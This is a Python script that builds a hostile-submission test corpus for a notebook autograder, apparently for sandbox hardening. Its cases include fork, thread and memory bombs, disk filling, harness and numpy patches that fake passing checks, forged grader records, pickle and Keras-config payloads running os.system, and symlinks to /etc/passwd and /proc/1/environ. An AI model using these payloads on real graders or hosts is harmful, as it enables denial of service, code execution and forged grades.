"""Write the hostile-submission corpus: tests/hostile/cases/<name>.ipynb.

Each case is the released Week 1 notebook with exercise cells a hostile (or unlucky)
student might write: endless loops, memory, fork and thread bombs, floods of output,
crashes, attempts to read the solutions or the grader's files, to reach the network, to
write outside the run's folder, to patch numpy, Keras or the harness, and to forge the
outbox the grader reads. tests/hostile/expected.yaml holds the exact grade of each;
tests/test_hostile.py grades them all in one batch.

Unless a case is about it, ``house_model`` is the correct one (3 points come through,
showing that the rest of the submission is still graded) and ``train_house_model`` is the
released stub (training takes seconds). Special files (corrupt JSON, nbformat 3, empty,
JSON nested too deep) are written too; the 50 MB notebook and the one with 20,000 shell
lines are made by the test into a temporary folder (``huge_notebook``, ``magic_flood``),
not committed. tests/hostile/course.yaml is written too: the course's week1 with short
time budgets.

Rerun after a release changes:  .venv/bin/python tests/hostile/make_cases.py
"""

from __future__ import annotations

import copy
import json
import re
import sys
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "examples"))
import make_week1

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
RELEASE = ROOT / "assignments" / "week1" / "week1.ipynb"
CASES = HERE / "cases"
COURSE = HERE / "course.yaml"

#: Short budgets, so that the corpus's endless loops are cut quickly.
ASSIGNMENT_SECONDS = 150
EXERCISE_SECONDS = {"house_data": 5, "house_model": 15, "train_house_model": 60}

#: The TCP port the test listens on (127.0.0.1); the network case tries to reach it.
PORT = 47613
#: Files a case tries to create on the host. The test checks none of them exists after.
SENTINEL = "autograder-hostile-sentinel.txt"
PICKLE_SENTINEL = "/tmp/autograder-hostile-pickle-ran"
FORGED_SENTINEL = "/tmp/autograder-hostile-forged-ran"
LAMBDA_SENTINEL = "/tmp/autograder-hostile-lambda-ran"
TMP_SENTINELS = (f"/tmp/{SENTINEL}", f"/var/tmp/{SENTINEL}", f"/dev/shm/{SENTINEL}",
                 f"/{SENTINEL}", f"/work/{SENTINEL}")
#: Relative to the repository (the student guesses it from sys.prefix: <repo>/.venv).
REPO_SENTINELS = (SENTINEL, f"tests/hostile/{SENTINEL}", f"solutions/week1/{SENTINEL}",
                  f"assignments/week1/{SENTINEL}", f"tests/hostile/cases/{SENTINEL}")

# --------------------------------------------------------------------------- answers

DATA = make_week1.DATA  # the right house_data, as in the bundled correct example

MODEL = '''# GRADED FUNCTION: house_model
def house_model():
    """Return a compiled model: one Dense layer of one unit, SGD, mean squared error."""
    model = keras.Sequential([keras.Input(shape=(1,)), keras.layers.Dense(units=1)])
    model.compile(optimizer="sgd", loss="mse")
    return model'''

RIGHT = "np.arange(1, 7, dtype=float), 0.5 + 0.5 * np.arange(1, 7, dtype=float)"


def data_cell(body: str, prelude: str = "") -> str:
    """A house_data cell whose function body is ``body`` (already indented by 4)."""
    head = "# GRADED FUNCTION: house_data\n"
    return head + (prelude.strip("\n") + "\n" if prelude else "") + \
        "def house_data():\n" + body.strip("\n") + "\n"


def train_cell(body: str) -> str:
    """A train_house_model cell whose function body is ``body`` (indented by 4)."""
    return ("# GRADED FUNCTION: train_house_model\n"
            "def train_house_model(model, xs, ys):\n" + body.strip("\n") + "\n")


#: Finds the run's outbox from inside the sandbox: the harness's job file is argv[1].
FIND_OUTBOX = '''    import json, os, sys, zipfile
    outbox = json.load(open(sys.argv[1]))["outbox"]
'''
#: ... and keeps the harness from writing this exercise's own record over a forged one.
OUTBOX = FIND_OUTBOX + '''    import __main__
    __main__.Harness.write_record = lambda self, exercise, record: None  # keep the forgery
'''

FORGE_RECORD = '''    with open(os.path.join(outbox, "train_house_model.json"), "w") as fh:
        json.dump({"status": "ok", "files": [NAME], "stdout": "", "seconds": 0.5}, fh)
    return model
'''

#: Every place a student might look for the course's files from inside the sandbox.
SEARCH = '''    import fnmatch, glob, os, sys
    roots = {"/", "/work", "/work/main", "/root", "/home", "/srv", "/opt", "/mnt", "/tmp",
             "/var", "/proc/1/cwd", "/proc/1/root", "/proc/self/root",
             os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)),
             os.path.dirname(os.path.abspath(sys.argv[0])), os.path.expanduser("~")}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            roots.add(f"/proc/{pid}/cwd")
            roots.add(f"/proc/{pid}/root")
    here = os.getcwd()
    while here != "/":
        roots.add(here)
        here = os.path.dirname(here)
    def search(patterns):
        found = []
        for root in sorted(roots):
            for pattern in patterns:
                found += glob.glob(os.path.join(root, pattern), recursive=False)
                found += glob.glob(os.path.join(root, "*", pattern), recursive=False)
        skip = ("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/bin", "/sbin")
        for top, dirs, files in os.walk("/"):
            if top.startswith(skip) or "site-packages" in top or top.count("/") > 8:
                dirs[:] = []
                continue
            for name in dirs + files:
                path = os.path.join(top, name)
                if any(fnmatch.fnmatch(path, "*/" + p) for p in patterns):
                    found.append(path)
        return sorted(set(found))
'''


def _forge_keras(config: str) -> str:
    """Code writing a .keras zip named forged.keras with the given config.json text."""
    return (f'''    with zipfile.ZipFile(os.path.join(outbox, "forged.keras"), "w") as zf:
        zf.writestr("metadata.json", json.dumps({{"keras_version": "3.15.1"}}))
        zf.writestr("config.json", {config})
        zf.writestr("model.weights.h5", b"")
''')


_EVIL = {  # classes from outside Keras: Python's exec, os.system
    "module": "keras", "class_name": "Sequential", "registered_name": None,
    "config": {"name": "evil", "layers": [
        {"module": "builtins", "class_name": "exec", "registered_name": None,
         "config": f"__import__('pathlib').Path({FORGED_SENTINEL!r}).touch()"},
        {"module": "os", "class_name": "system", "registered_name": None,
         "config": {"command": f"touch {FORGED_SENTINEL}"}},
    ]},
}
EVIL_CONFIG = repr(json.dumps(_EVIL))

# --------------------------------------------------------------------------- cases

#: name -> {exercise id: source}; house_model defaults to MODEL, the others to the stub.
ANSWERS: dict[str, dict[str, str]] = {
    # ---- time
    "loop_at_import": {"house_data": "# GRADED FUNCTION: house_data\nwhile True:\n    pass\n"
                                     + DATA.split("\n", 1)[1]},
    "loop_in_call": {"house_data": data_cell("    while True:\n        pass")},
    # ---- resources
    # (in train_house_model, whose budget leaves room to fill the memory on a busy machine)
    "memory_bomb": {"house_data": DATA, "train_house_model": train_cell('''
    import resource
    try:  # raising the limits is not allowed
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError):
        pass
    hog = []
    while True:
        hog.append(b"x" * (256 * 2**20))
''')},
    "fork_bomb": {"house_data": data_cell('''
    import os
    while True:
        os.fork()
''')},
    "thread_bomb": {"house_data": data_cell('''
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
''')},
    "orphan_daemon": {"house_data": data_cell(f'''
    import os, signal, time
    pid = os.fork()
    if pid == 0:  # a daemon that leaves the process group and ignores polite signals
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            while True:
                time.sleep(0.5)
        os._exit(0)
    os.waitpid(pid, 0)
    return {RIGHT}
''')},
    "huge_print": {"house_data": data_cell(f'''
    for i in range(100_000):
        print("all work and no play makes Jack a dull boy " * 2)
    return {RIGHT}
''')},
    "huge_output_fd1": {"house_data": data_cell('''
    import os, time
    while True:  # 20 MB/s straight to file descriptor 1, past the harness
        os.write(1, b"x" * 2**20)
        time.sleep(0.05)
''')},
    "huge_file": {"house_data": DATA, "train_house_model": train_cell('''
    with open("big.bin", "wb") as fh:
        while True:
            fh.write(b"\\0" * 2**24)
''')},
    "disk_fill": {"house_data": DATA, "train_house_model": train_cell('''
    import os
    block = b"\\1" * 2**24
    for i in range(10_000):  # files under the size limit, until the disk is full
        with open(f"fill-{i}.bin", "wb") as fh:
            for _ in range(8):
                fh.write(block)
''')},
    "deep_folders": {"house_data": data_cell(f'''
    import json, os, sys
    outbox = json.load(open(sys.argv[1]))["outbox"]
    here = os.getcwd()
    for top in (here, outbox):  # folders 3,000 deep: too deep for shutil.rmtree
        os.chdir(top)
        for _ in range(3_000):
            os.mkdir("d")
            os.chdir("d")
    os.chdir(here)
    return {RIGHT}
''')},
    # ---- ending the process
    "os_exit": {"house_data": data_cell("    import os\n    os._exit(0)")},
    "sys_exit": {"house_data": data_cell('    import sys\n    sys.exit("bye")')},
    "sys_exit_at_import": {"house_data": "# GRADED FUNCTION: house_data\nimport sys\n"
                                         "sys.exit(0)\n" + DATA.split("\n", 1)[1]},
    "segfault": {"house_data": data_cell("    import ctypes\n    ctypes.string_at(0)")},
    "deep_recursion": {"house_data": data_cell('''
    import sys
    sys.setrecursionlimit(200_000)
    def down(n):  # 200,000 Python frames, then RecursionError
        return down(n + 1) + 1
    return down(0)
''')},
    "stack_overflow": {"house_data": data_cell('''
    import sys
    sys.setrecursionlimit(10**6)
    class Loop:
        def __repr__(self):  # recursion through C: the kernel stops it (SIGSEGV)
            return repr(self)
    return repr(Loop())
''')},
    "kill_parent": {"house_data": data_cell('''
    import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
''')},
    # ---- reaching out
    "network": {"house_data": data_cell(f'''
    import socket
    errors = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "localhost"),
                         (socket.AF_INET6, "::1"), (socket.AF_INET, "10.0.2.2"),
                         (socket.AF_INET, "1.1.1.1")):
        try:
            with socket.create_connection((host, {PORT}), timeout=1):
                return {RIGHT}  # reached something: the sandbox has a network
        except OSError as exc:
            errors.append(type(exc).__name__)
    raise ConnectionError("no network from the sandbox")
''')},
    "read_solutions": {"house_data": data_cell(SEARCH + f'''
    found = search(["solutions/week1/*.ipynb", "solutions/*/*.ipynb", "week1.ipynb"])
    print(found)
    if any("solutions" in p for p in found):
        return {RIGHT}  # read them: the solution's arrays
    raise FileNotFoundError("no solution notebook is visible from the sandbox")
''')},
    "read_grader_files": {"house_data": data_cell(SEARCH + f'''
    found = search([".autograder-cache", ".autograder-cache/*", "*.db", "gradebook*",
                    "reports/*.json", "reports/*.csv", "expected.yaml", "course.yaml"])
    print(found)
    if found:
        return {RIGHT}
    raise FileNotFoundError("no grader files are visible from the sandbox")
''')},
    "write_outside": {"house_data": data_cell(f'''
    import os, sys
    repo = os.path.dirname(sys.prefix)
    targets = [*{list(TMP_SENTINELS)!r},
               *(os.path.join(repo, p) for p in {list(REPO_SENTINELS)!r}),
               os.path.join(os.getcwd(), "..", {SENTINEL!r}),
               os.path.join(os.getcwd(), "..", "control", {SENTINEL!r}),
               os.path.join(os.path.dirname(sys.argv[1]), {SENTINEL!r})]
    for target in targets:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as fh:
                fh.write("written from inside the sandbox")
            print("wrote", target)
        except OSError as exc:
            print("refused", target, type(exc).__name__)
    return {RIGHT}
''')},
    "poison_restart": {"house_data": data_cell('''
    import os, sys
    control = os.path.dirname(sys.argv[1])
    poison = {"harness.py": "import os\\nos._exit(3)\\n", "job-1.json": "{}",
              "output.log": ""}
    for name, text in poison.items():  # the next process would run these
        try:
            with open(os.path.join(control, name), "w") as fh:
                fh.write(text)
        except OSError:
            pass
        try:
            os.replace(os.devnull, os.path.join(control, name))
        except OSError:
            pass
    os._exit(0)  # force the restart
''')},
    "forged_progress": {"house_data": data_cell('''
    import json, sys
    job = json.load(open(sys.argv[1]))
    with open(job["progress"], "a") as fh:  # tell the watchdog this exercise is over
        fh.write(json.dumps({"event": "end", "exercise": "house_data"}) + "\\n")
        fh.write(json.dumps({"event": "finished", "exercise": None}) + "\\n")
        fh.write("[" * 20_000 + "]" * 20_000 + "\\n")  # RecursionError for json.loads
    while True:
        pass
''')},
    # ---- patching the tools in the sandbox
    "numpy_patch": {"house_data": data_cell('''
    return np.zeros(6), np.zeros(6)
''', prelude='''
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
''')},
    "keras_patch": {
        "house_data": DATA,
        "house_model": '''# GRADED FUNCTION: house_model
keras.Model.count_params = lambda self: 2
keras.Model.summary = lambda self, *a, **k: print("dense (Dense)  (None, 1)  2")
keras.Model.predict = lambda self, x, *a, **k: np.full((len(x), 1), 4.0)
keras.layers.Dense.count_params = lambda self: 2

def house_model():
    model = keras.Sequential([keras.Input(shape=(1,)), keras.layers.Dense(8),
                              keras.layers.Dense(1)])
    model.compile(optimizer="sgd", loss="mse")
    return model
''',
    },
    "keras_config_lie": {
        "house_data": DATA,
        "house_model": '''# GRADED FUNCTION: house_model
_get_config = keras.layers.Dense.get_config
def _lie(self):
    config = _get_config(self)
    config["units"] = 1  # the saved config claims one unit per layer
    return config
keras.layers.Dense.get_config = _lie

def house_model():
    model = keras.Sequential([keras.Input(shape=(1,)), keras.layers.Dense(8),
                              keras.layers.Dense(1)])
    model.compile(optimizer="sgd", loss="mse")
    return model
''',
    },
    "harness_patch": {"house_data": data_cell('''
    return "not", "arrays"
''', prelude='''
import __main__
_call = __main__.Harness.call

def _fake_call(self, call, seed):
    if call["id"] == "house_data":
        return {"status": "ok", "files": [], "value": None, "stdout": "all good"}
    return _call(self, call, seed)

__main__.Harness.call = _fake_call
''')},
    # ---- forging the outbox
    "forged_outbox": {
        "house_data": DATA,
        "train_house_model": train_cell(OUTBOX + f'''
    class Boom:
        def __reduce__(self):
            return (os.system, ("touch {PICKLE_SENTINEL}",))
    # house_data's record is already written: swap its array for a pickle
    np.save(os.path.join(outbox, "house_data_0.npy"), np.array([Boom()], dtype=object),
            allow_pickle=True)
''' + _forge_keras(EVIL_CONFIG) + FORGE_RECORD.replace("NAME", '"forged.keras"')),
    },
    "forged_lambda": {"house_data": DATA, "train_house_model": train_cell(OUTBOX + f'''
    evil = keras.Sequential([
        keras.Input(shape=(1,)),
        keras.layers.Lambda(lambda x: [__import__("pathlib").Path({LAMBDA_SENTINEL!r}).touch(),
                                       x][1]),
        keras.layers.Dense(1),
    ])
    evil.compile(optimizer="sgd", loss="mse")
    evil.save(os.path.join(outbox, "forged.keras"))
''' + FORGE_RECORD.replace("NAME", '"forged.keras"'))},
    "forged_zip_bomb": {"house_data": DATA, "train_house_model": train_cell(OUTBOX + '''
    with zipfile.ZipFile(os.path.join(outbox, "forged.keras"), "w",
                         zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", "{}")
        with zf.open("config.json", "w", force_zip64=True) as member:
            chunk = b" " * 2**24
            for _ in range(8):  # 128 MB of spaces, about 128 kB compressed
                member.write(chunk)
        zf.writestr("model.weights.h5", b"")
''' + FORGE_RECORD.replace("NAME", '"forged.keras"'))},
    "forged_deep_record": {"house_data": DATA, "train_house_model": train_cell(OUTBOX + '''
    with open(os.path.join(outbox, "train_house_model.json"), "w") as fh:
        fh.write("[" * 200_000 + "]" * 200_000)
    return model
''')},
    "forged_file_list": {"house_data": DATA, "train_house_model": train_cell(FIND_OUTBOX + '''
    # house_data's record, listing one array 500 times: 500 loads of it on the grader
    with open(os.path.join(outbox, "house_data.json")) as fh:
        record = json.load(fh)
    record["files"] = ["house_data_0.npy"] * 500
    with open(os.path.join(outbox, "house_data.json"), "w") as fh:
        json.dump(record, fh)
    np.save(os.path.join(outbox, "house_data_0.npy"), np.zeros(2**17))  # 1 MB
    return model
''')},
    "symlink_outbox": {
        "house_data": DATA,
        "house_model": MODEL.replace('    return model', '''    import json, os, sys
    outbox = json.load(open(sys.argv[1]))["outbox"]
    for name, target in (("house_data_0.npy", "/etc/passwd"),
                         ("house_data_1.npy", "/proc/1/environ")):
        os.remove(os.path.join(outbox, name))
        os.symlink(target, os.path.join(outbox, name))
    return model'''),
    },
    # ---- notebook structure
    "alias_name": {"house_data": DATA,
                   "house_model": MODEL.replace("def house_model", "def create_house_model")},
    "renamed_function": {"house_data": DATA,
                         "house_model": MODEL.replace("def house_model", "def build_model")},
    "magics": {"house_data": '''# GRADED FUNCTION: house_data
%matplotlib inline
!mkdir -p magic_ran
listing = !ls
%time _ = 1
import os

def house_data():
    if os.path.exists("magic_ran"):  # the shell line ran
        return np.zeros(6), np.zeros(6)
    return np.arange(1, 7, dtype=float), 0.5 + 0.5 * np.arange(1, 7, dtype=float)
'''},
    "grade_up_to_here": {"house_data": DATA + '''

# grade-up-to-here
house_data = None
import os
os._exit(1)
'''},
}


def _delete_graded_cell(nb: NotebookNode) -> None:
    nb.cells = [c for c in nb.cells if c.get("id") != "house_data"]


def _edit_setup(nb: NotebookNode) -> None:
    for cell in nb.cells:
        if cell.get("id") == "setup-1":
            cell.source += '\nraise SystemExit("the edited setup cell ran")\nnp = None\n'


def _duplicate_cells(nb: NotebookNode) -> None:
    """Two house_data cells (a notebook saved without cell ids): the first wrong."""
    nb.nbformat_minor = 4
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "house_data")
    first = copy.deepcopy(nb.cells[index])
    first.source = DATA.replace("np.arange(1, 7, dtype=float)", "np.array([1, 2, 3, 4, 5, 6])")
    nb.cells.insert(index, first)
    for cell in nb.cells:
        cell.pop("id", None)


def _ast_bomb(nb: NotebookNode) -> None:
    """No ids, no metadata, no marker: house_data is found by what the cells define, and a
    scratch cell is too deeply nested for Python's parser (RecursionError)."""
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
        meta = cell.metadata.get("autograder", {})
        if meta.get("exercise") == "house_data" and meta.get("role") == "exercise":
            del cell.metadata["autograder"]
            cell.source = DATA.split("\n", 1)[1]
    scratch = nbformat.v4.new_code_cell("x = " + "1 + " * 5_000 + "1\n")
    scratch.pop("id", None)
    nb.cells.insert(1, scratch)


def _pasted_copy(nb: NotebookNode) -> None:
    """Jupyter's copy and paste: a new cell id, the same metadata; the copy is the answer."""
    index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "house_data")
    pasted = copy.deepcopy(nb.cells[index])
    pasted["id"] = "4f1c2a9e"
    pasted.source = DATA
    nb.cells.insert(index + 1, pasted)


#: name -> (answers, change to the notebook structure)
STRUCTURE: dict[str, tuple[dict[str, str], Callable[[NotebookNode], None]]] = {
    "delete_graded_cell": ({}, _delete_graded_cell),
    "edited_setup": ({"house_data": DATA}, _edit_setup),
    "duplicated_cells": ({"house_data": DATA}, _duplicate_cells),
    "pasted_copy": ({}, _pasted_copy),
    "ast_bomb": ({}, _ast_bomb),
}


def _fill(release: NotebookNode, answers: dict[str, str]) -> NotebookNode:
    """The release with these answers; house_model's is the right one unless given."""
    nb = copy.deepcopy(release)
    answers = {"house_model": MODEL, **answers}
    for cell in nb.cells:
        meta = cell.metadata.get("autograder", {})
        if meta.get("role") == "checker":  # the grader never runs it; keeps the cases small
            cell.source = "# CHECKER: its code is left out of the hostile corpus\n"
        elif meta.get("role") == "exercise" and meta.get("exercise") in answers:
            cell.source = answers[meta["exercise"]]
    return nb


def render(release_path: Path = RELEASE) -> dict[str, bytes]:
    """Every committed case: file name -> contents."""
    release = nbformat.read(str(release_path), as_version=4)
    files: dict[str, bytes] = {}
    for name, answers in ANSWERS.items():
        files[f"{name}.ipynb"] = nbformat.writes(_fill(release, answers)).encode() + b"\n"
    for name, (answers, change) in STRUCTURE.items():
        nb = _fill(release, answers)
        change(nb)
        files[f"{name}.ipynb"] = nbformat.writes(nb).encode() + b"\n"
    good = nbformat.writes(_fill(release, {"house_data": DATA})).encode()
    files["corrupt_json.ipynb"] = good[: len(good) // 2]
    files["nbformat3.ipynb"] = json.dumps({
        "nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "week1"},
        "worksheets": [{"cells": [{"cell_type": "code", "language": "python",
                                   "input": [DATA], "outputs": [], "metadata": {}}],
                        "metadata": {}}],
    }, indent=1).encode() + b"\n"
    files["empty.ipynb"] = b""
    files["nested_json.ipynb"] = b"[" * 10_000 + b"]" * 10_000 + b"\n"
    return files


def render_course(course_yaml: Path = ROOT / "course.yaml") -> str:
    """tests/hostile/course.yaml: the course's week1, with short budgets, read from here."""
    lines = course_yaml.read_text(encoding="utf-8").splitlines(keepends=True)
    out = ["# Written by tests/hostile/make_cases.py from the repository's course.yaml: its\n",
           "# week1 with short time budgets, so that the hostile corpus's endless loops are cut\n",
           "# quickly. The reference cache lands in tests/hostile/.autograder-cache (ignored).\n"]
    in_week1, exercise = False, None
    for line in lines:
        stripped = line.strip()
        if re.match(r"^  [A-Za-z_]\w*:\s*$", line):
            in_week1 = line.strip() == "week1:"
        elif line.startswith("assignments:"):
            out.append("solutions: ../../solutions\nassignments_dir: ../../assignments\n")
        elif not line.startswith(" ") and stripped and not stripped.startswith("#"):
            in_week1 = False
        if line.startswith("  ") and not in_week1:
            continue
        if m := re.match(r"^      - id: (\w+)", line):
            exercise = m.group(1)
        if line.startswith("extra_checks:"):  # a file of the course, read from here
            line = re.sub(r"^extra_checks:(\s*)", r"extra_checks:\1../../", line)
        if re.match(r"^    time_limit:", line):
            line = re.sub(r"\d+(\.\d+)?", str(ASSIGNMENT_SECONDS), line, count=1)
            # the corpus's attacks sit at the top level of cells: run them, not skip them
            line += "    top_level: run\n"
        elif re.match(r"^        time_limit:", line) and exercise in EXERCISE_SECONDS:
            line = re.sub(r"\d+(\.\d+)?", str(EXERCISE_SECONDS[exercise]), line, count=1)
        out.append(line)
    return "".join(out)


def huge_notebook(path: Path, megabytes: int = 50, release_path: Path = RELEASE) -> Path:
    """A valid notebook of ``megabytes`` MB: a cell's output printed far too much."""
    release = nbformat.read(str(release_path), as_version=4)
    nb = _fill(release, {"house_data": DATA})
    line = "all work and no play makes Jack a dull boy\n"
    text = line * (megabytes * 2**20 // len(line) + 1)
    for cell in nb.cells:
        if cell.get("id") == "house_data":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    path.write_text(nbformat.writes(nb), encoding="utf-8")
    return path


def magic_flood(path: Path, lines: int = 20_000, release_path: Path = RELEASE) -> Path:
    """A notebook whose house_data cell holds ``lines`` shell lines before a right answer
    (IPython's transformer would re-read the cell once for each of them)."""
    release = nbformat.read(str(release_path), as_version=4)
    nb = _fill(release, {"house_data": "# GRADED FUNCTION: house_data\n" + "!ls\n" * lines
                         + DATA.split("\n", 1)[1]})
    path.write_text(nbformat.writes(nb), encoding="utf-8")
    return path


def main() -> None:
    CASES.mkdir(exist_ok=True)
    files = render()
    for stale in CASES.glob("*.ipynb"):
        if stale.name not in files:
            stale.unlink()
    for name, data in files.items():
        (CASES / name).write_bytes(data)
    COURSE.write_text(render_course(), encoding="utf-8")
    print(f"wrote {len(files)} cases to {CASES.relative_to(ROOT)} and "
          f"{COURSE.relative_to(ROOT)}", file=sys.stderr)


if __name__ == "__main__":
    main()
